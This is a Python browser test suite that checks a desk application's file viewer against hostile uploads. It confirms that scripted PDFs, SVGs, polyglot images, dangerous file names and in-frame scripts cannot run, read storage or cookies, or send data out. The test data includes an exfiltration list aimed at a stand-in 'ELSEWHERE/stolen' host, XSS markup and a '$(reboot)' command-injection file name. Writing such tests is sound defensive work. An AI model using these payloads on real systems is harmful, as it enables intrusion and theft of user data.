"""Files and names that want to do harm, each played to the end on the desk's page in Chromium."""

import io
import socket
from contextlib import suppress

import pytest
from PIL import Image
from playwright.sync_api import Error as PlaywrightError

from tests import evidence_files as made
from tests.admin.desk.files.files_live import faults, press, row_of, said, shown_frame
from tests.admin.desk.files.files_made import put_file, with_files

pytestmark = pytest.mark.browser

HARMED = "[window, ...frames].filter((one) => one === window && one.pwned).length"


def noisy_pdf():
    """A PDF that runs a script when it is opened."""
    action = b"<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1/stolen'\\))>>"
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction "
        + action
        + b">>endobj\ntrailer<</Root 1 0 R>>"
    )


@pytest.fixture
def watched(page):
    """The addresses that are asked for meanwhile, by whatever frame."""
    asked = []

    def note(request):
        asked.append(request.url)

    page.on("request", note)
    yield asked
    page.remove_listener("request", note)


@pytest.fixture
def show_files(page, show, sealed_tip, files_live):
    """Show the page of a tip with files: (data, name, type) each."""

    def shown(*files):
        entries = [
            put_file(files_live.app, data, name=name, type=kind, state="kept")
            for data, name, kind in files
        ]
        show(with_files(sealed_tip, files_live.app, entries))

    return shown


def is_unharmed(page, watched, files_live):
    """Tell that no script of a file ran: not in the page, not in its frame, nothing was sent."""
    # The published keys and routes are asked for on every tip's page.
    paths = ("/desk/", "/app/", "/assets/", "/keys.json")
    own = tuple(f"{files_live.desk}{path}" for path in paths)
    elsewhere = [url for url in watched if not url.startswith((*own, "blob:", "data:"))]
    pwned = [frame.evaluate("Boolean(window.pwned)") for frame in page.frames]
    stolen = [url for url in watched if "stolen" in url]
    return (elsewhere, stolen, any(pwned)) == ([], [], False)


# What says that it is a picture, and is a page or a script: it is not even given to the frame.
NOT_SHOWN = {
    "an SVG with a script": made.svg,
    "a page": made.html,
    "a PDF with a script": noisy_pdf,
    "a bomb of zeros": lambda: bytes(100_000),
    "a Word file": made.docx,
    "nothing": lambda: b"",
    "HEIC, which this browser can't draw": made.heic,
}


@pytest.mark.parametrize("kind", ["image/jpeg", "video/mp4"])
def test_what_is_no_picture_sound_or_film_never_gets_into_the_frame(
    page, show_files, watched, files_live, kind
):
    show_files(*((make(), name, kind) for name, make in NOT_SHOWN.items()))

    for number in range(1, len(NOT_SHOWN) + 1):
        press(page, number, "看")
        assert "只能保存" in said(page, number)

    assert page.locator("iframe").count() == 0
    assert is_unharmed(page, watched, files_live)


def test_a_kind_that_could_hold_a_script_offers_no_look_at_all(page, show_files):
    kinds = ["image/svg+xml", "text/html", "application/pdf", "text/plain"]
    show_files(*((made.svg(), "x.svg", kind) for kind in kinds))

    assert page.locator(".files__one").count() == len(kinds)
    assert page.get_by_role("button", name="看", exact=True).count() == 0


# Pictures that are a page or a script as well: drawn, and nothing but drawn.
DRAWN = {
    "a JPEG with a page in it": (made.picture_with_page, "image/jpeg"),
    "a GIF that is a script": (made.gif_with_script, "image/gif"),
    "a picture of plain kind": (made.png, "image/png"),
}


@pytest.mark.parametrize(("data", "kind"), DRAWN.values(), ids=DRAWN)
def test_of_a_picture_with_a_script_in_it_only_the_pixels_come_through(
    page, show_files, watched, files_live, data, kind
):
    show_files((data(), "photo", kind))

    press(page, 1, "转出副本")
    page.wait_for_selector(".files__ask:focus")
    with page.expect_download() as waiting:
        press(page, 1, "看过了，转出")

    copy = waiting.value.path().read_bytes()
    assert b"script" in made.picture_with_page()
    assert b"script" not in copy
    assert Image.open(io.BytesIO(copy)).size[0] > 0
    assert is_unharmed(page, watched, files_live)


UNDRAWABLE = {
    "more pixels than memory": (made.pixel_flood, "image/png", "太大"),
    "half a picture's head": (lambda: made.png()[:20], "image/png", "太大"),
    "half a film": (lambda: made.film_mp4()[:600], "video/mp4", "看不了"),
    "a film of noise": (lambda: b"\0\0\0\x20ftypisom" + b"x" * 9000, "video/mp4", "看不了"),
}


@pytest.mark.skipif(not made.has_ffmpeg(), reason="ffmpeg is not installed")
@pytest.mark.skipif(not made.has_ffmpeg(), reason="ffmpeg is not installed")
def test_what_cannot_be_drawn_or_played_is_said_and_the_page_goes_on(
    page, show_files, watched, files_live
):
    show_files(*((make(), name, kind) for name, (make, kind, _said) in UNDRAWABLE.items()))

    for number, (_make, _kind, sentence) in enumerate(UNDRAWABLE.values(), start=1):
        press(page, number, "看")
        assert sentence in said(page, number)
        assert row_of(page, number).get_by_role("button", name="保存").is_enabled()

    assert page.locator("iframe").count() == 0
    assert is_unharmed(page, watched, files_live)


ENDINGS_THAT_RUN = (".exe", ".html", ".htm", ".svg", ".js", ".lnk", ".bat", ".hta")
NAMES = made.BAD_NAMES | {
    "a page": "看.html",
    "an SVG": "图.svg",
    "a program": "照片.jpg.exe",
    "a shortcut": "照片.lnk",
    "a command": "$(reboot).jpg",
}


def test_no_name_leaves_its_folder_turns_its_direction_or_starts_a_program(
    page, show_files, watched, files_live
):
    # As a sender's own program writes them, whom no form stops; an empty one is no entry of ours.
    show_files(*((made.png(), name or " ", "image/png") for name in NAMES.values()))

    for number in range(1, len(NAMES) + 1):
        shown = row_of(page, number).locator(".files__name").inner_text()
        press(page, number, "保存")
        with page.expect_download() as waiting:
            press(page, number, "知道了，保存")
        for given in (shown, waiting.value.suggested_filename):
            is_harmless(given)
    assert page.locator(".files__name script, .files__name img").count() == 0
    assert is_unharmed(page, watched, files_live)


def is_harmless(name):
    assert 0 < len(name) <= 124
    assert not set(name) & set("/\\:*?\"<>|\0\r\n\u202e\u200b\ufeff$'")
    assert not name.startswith((".", " "))
    assert not name.lower().endswith(ENDINGS_THAT_RUN)
    assert not name.upper().startswith("CON.")


# Were a decoder's fault to run a stranger's program within the frame, it would try these.
ATTEMPTS = {
    "read the page": "parent.document.body.innerHTML",
    "read what the tab keeps": "sessionStorage.length",
    "read what the browser keeps": "localStorage.length",
    "read through the parent": "parent.sessionStorage.length",
    "open a data base": "indexedDB.open('x') && null.x",
    "read cookies": "document.cookie",
    "lead the page away": "top.location.assign('/desk/stolen')",
    "lead the page away by its address": "(top.location.href = '/desk/stolen') && null.x",
    "use another frame": "parent.frames[0].document.body.append('x') || parent.frames.x.y",
    "make a worker": "new Worker(URL.createObjectURL(new Blob(['1']))).x.y",
    "make markup": "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
    "run a text": "document.createElement('script').text = 'window.ran = 1'",
}
_TRY = "new Promise((yes, no) => {{ {}; setTimeout(no, 800); }})"
SENDS = {
    "fetch": "fetch('/desk/stolen')",
    "fetch from elsewhere": "fetch('http://ELSEWHERE/stolen', {mode: 'no-cors'})",
    "a picture": _TRY.format(
        "const i = new Image(); i.onload = yes; i.src = 'http://ELSEWHERE/stolen'"
    ),
    "a frame": _TRY.format(
        "const f = document.createElement('iframe'); f.onload = () => 0;"
        "f.src = 'http://ELSEWHERE/stolen'; document.body.append(f)"
    ),
    "a socket": _TRY.format(
        "const s = new WebSocket('ws://ELSEWHERE/stolen'); s.onopen = yes; s.onerror = no"
    ),
    "events": _TRY.format("const s = new EventSource('/desk/stolen'); s.onopen = yes"),
    "a beacon": "Promise.reject(navigator.sendBeacon('http://ELSEWHERE/stolen', 'x'))",
    "a form": _TRY.format(
        "const f = document.createElement('form'); f.action = 'http://ELSEWHERE/stolen';"
        "document.body.append(f); f.submit()"
    ),
    "a window": _TRY.format("if (window.open('http://ELSEWHERE/stolen')) yes()"),
    "a link": _TRY.format(
        "const a = document.createElement('a'); a.href = 'http://ELSEWHERE/stolen';"
        "a.target = '_top'; document.body.append(a); a.click()"
    ),
    "its own address": _TRY.format("location.href = 'http://ELSEWHERE/stolen'"),
    "another page of the desk": _TRY.format("location.href = '/desk/stolen'"),
}


@pytest.fixture
def elsewhere():
    """Another host's door, through which, at the end, not a byte has come.

    Chromium opens a line to where a frame wants to go before it asks the policy whether it may
    (seen with 156), and then sends nothing on it: that is let pass.
    """
    with socket.socket() as door:
        door.bind(("127.0.0.1", 0))
        door.listen()
        door.settimeout(0.3)
        yield "{}:{}".format(*door.getsockname())
        with suppress(TimeoutError):
            caller, _address = door.accept()
            with caller:
                caller.settimeout(0.5)
                said_there = caller.recv(300)
                assert said_there == b""


@pytest.fixture(scope="module")
def drawn(member_page, files_live, sealed_tip):
    """A page with a picture in its frame."""
    entry = put_file(files_live.app, made.png(), type="image/png")
    tip = with_files(sealed_tip, files_live.app, [entry])

    def ready():
        member_page.goto(f"{files_live.desk}/desk/tips/{tip.reference}")
        member_page.wait_for_selector("#tip[data-opened]")
        press(member_page, 1, "看")
        return shown_frame(member_page, 1)

    return ready


def test_a_program_within_the_frame_reaches_nothing_of_the_desk(drawn, member_page):
    frame = drawn()
    before = member_page.url

    reached = {}
    for name, script in ATTEMPTS.items():
        trial = f"() => {{ try {{ return [{script}]; }} catch (error) {{ return error.name; }} }}"
        found = frame.evaluate(trial)
        if found not in ("SecurityError", "TypeError"):
            reached[name] = found
    member_page.wait_for_timeout(300)

    assert reached == {}
    assert member_page.url == before
    assert member_page.evaluate("sessionStorage.getItem('dengshao.keyring').length") > 100


@pytest.mark.parametrize("script", SENDS.values(), ids=SENDS)
def test_a_program_within_the_frame_can_send_nothing_anywhere(
    drawn, member_page, elsewhere, script
):
    served = []
    member_page.on("requestfinished", lambda request: served.append(request.url))
    frame = drawn()
    sending = script.replace("ELSEWHERE", elsewhere)

    # A frame that tries to go away is emptied by the browser: there is nothing left to ask.
    with suppress(PlaywrightError):
        sent = frame.evaluate(f"() => ({sending}).then(() => 'sent', () => 'stopped')")
        assert sent == "stopped"
    member_page.wait_for_timeout(300)

    assert not [url for url in served if "stolen" in url]
    assert member_page.locator("#tip[data-opened]").count() == 1


def test_the_frame_alone_is_let_into_the_page_and_by_no_other_address(drawn, member_page):
    drawn()

    refused = member_page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) =>
            resolve(event.effectiveDirective));
          const frame = document.createElement("iframe");
          frame.src = "/desk/account/";
          document.body.append(frame);
        })"""
    )

    assert refused == "frame-src"


def test_what_the_frame_says_is_taken_for_measures_and_codes_alone(drawn, member_page):
    frame = drawn()
    lies = [
        "null",
        "'<img src=x onerror=alert(1)>'",
        "{ failed: '<b>x</b>' }",
        "{ shown: { width: 1e99, height: -5 } }",
        "{ copied: { bytes: '<script>', type: 'text/html' } }",
        "{ piece: 1, show: { view: 'picture' } }",
    ]
    for lie in lies:
        frame.evaluate(f"() => parent.postMessage({lie}, '*')")
    member_page.wait_for_timeout(300)

    assert member_page.locator(".files__one img, .files__one script, .files__one b b").count() == 0
    assert row_of(member_page, 1).locator("iframe").count() == 1
    assert faults(member_page) == []
